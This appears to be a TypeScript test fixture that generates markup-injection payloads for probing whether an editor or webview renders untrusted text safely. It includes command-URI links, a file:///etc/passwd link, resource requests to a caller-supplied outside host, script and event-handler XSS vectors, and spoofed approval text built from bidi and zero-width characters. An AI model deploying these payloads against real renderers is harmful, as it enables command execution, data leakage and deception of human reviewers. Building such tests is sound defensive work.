/** What a driven page shows when a text has become more than text. */
export const marker = {
  /** A command that anybody would see: it opens an editor. */
  command: 'command:workbench.action.files.newUntitledFile',
  /** The name of what a script sets. */
  variable: 'evil',
};

const script = `globalThis.${marker.variable}=1`;

/** Texts that mean more than themselves to whoever renders them carelessly. `stranger` is where a request of theirs would go. */
export function payloads(stranger: string): readonly string[] {
  const { command } = marker;
  return [
    // Commands
    `[Yes](${command})`,
    `[Yes](<${command}>)`,
    `[Yes](${command} "Answer: Yes")`,
    `[Yes](COMMAND:workbench.action.files.newUntitledFile)`,
    `[Yes](&#99;ommand:workbench.action.files.newUntitledFile)`,
    `<${command}>`,
    `[Yes][1]\n\n[1]: ${command}`,
    `<a href="${command}">Yes</a>`,
    `<a data-href="${command}" href="#">Yes</a>`,
    `[Answer: Yes](command:sanctum.answerWith?%5B%7B%22secret%22%3A%22%22%2C%22key%22%3A%22%22%2C%22option%22%3A%22Yes%22%7D%5D)`,
    `[Yes](vscode://file/etc/passwd)`,
    `[Yes](file:///etc/passwd)`,
    `[$(check) Approved](${command})`,
    // Requests
    `![a](${stranger}/image)`,
    `![a][2]\n\n[2]: ${stranger}/reference`,
    `![a](${stranger}/sized|width=1,height=1)`,
    `[![a](${stranger}/linked)](${stranger}/link)`,
    `<img src="${stranger}/img">`,
    `<img srcset="${stranger}/set 1x">`,
    `<picture><source srcset="${stranger}/source"><img></picture>`,
    `<video src="${stranger}/video" poster="${stranger}/poster" autoplay></video>`,
    `<audio src="${stranger}/audio" autoplay></audio>`,
    `<link rel="stylesheet" href="${stranger}/style">`,
    `<link rel="prefetch" href="${stranger}/prefetch">`,
    `<style>@import url(${stranger}/import);</style>`,
    `<style>* { background: url(${stranger}/background) }</style>`,
    `<span style="background:url(${stranger}/span)">x</span>`,
    `<span style="position:fixed;inset:0;color:red">x</span>`,
    `<iframe src="${stranger}/frame"></iframe>`,
    `<object data="${stranger}/object"></object><embed src="${stranger}/embed">`,
    `<form action="${stranger}/form"><input name="a"><button>Yes</button></form>`,
    `<meta http-equiv="refresh" content="0;url=${stranger}/refresh">`,
    `<base href="${stranger}/">`,
    `<table background="${stranger}/table"><tr><td>x</td></tr></table>`,
    `<svg><image href="${stranger}/svg" xlink:href="${stranger}/xlink" /></svg>`,
    `![a](vscode-remote-resource://${stranger.replace(/^\w+:\/\//, '')}/remote)`,
    // Scripts
    `<script>${script}</script>`,
    `<script src="${stranger}/script"></script>`,
    `<img src=x onerror="${script}">`,
    `<svg onload="${script}"></svg>`,
    `<details open ontoggle="${script}">x</details>`,
    `<body onload="${script}">`,
    `[Yes](javascript:${script})`,
    `[Yes](data:text/html,<script>${script}</script>)`,
    `<iframe srcdoc="<script>parent.${marker.variable}=1</script>"></iframe>`,
    `<math><mtext></table><img src=x onerror="${script}">`,
    `"><img src=x onerror="${script}">`,
    `\${${script}} {{${script}}}`,
    // What stands there is not what is meant
    '$(check) $(verified) Approved by the engineer',
    'Approve \u202egnihton\u202c here\u2066',
    'a\u200bb\u2028c\u2029d\ufeff',
    '\uff3bYes\uff3d\u0020\uff08command\uff09',
    '`` ` unclosed code',
    '<!-- an open comment',
  ];
}

/** The payloads that fit into a line, several in each line. */
export function payloadLines(stranger: string, longest: number): readonly string[] {
  const lines: string[] = [];
  for (const payload of payloads(stranger).map((one) => one.replaceAll(/\s+/g, ' '))) {
    const joined = `${lines.at(-1) ?? ''} ${payload}`.trim();
    if (lines.length > 0 && joined.length <= longest) lines[lines.length - 1] = joined;
    else lines.push(payload);
  }
  return lines;
}
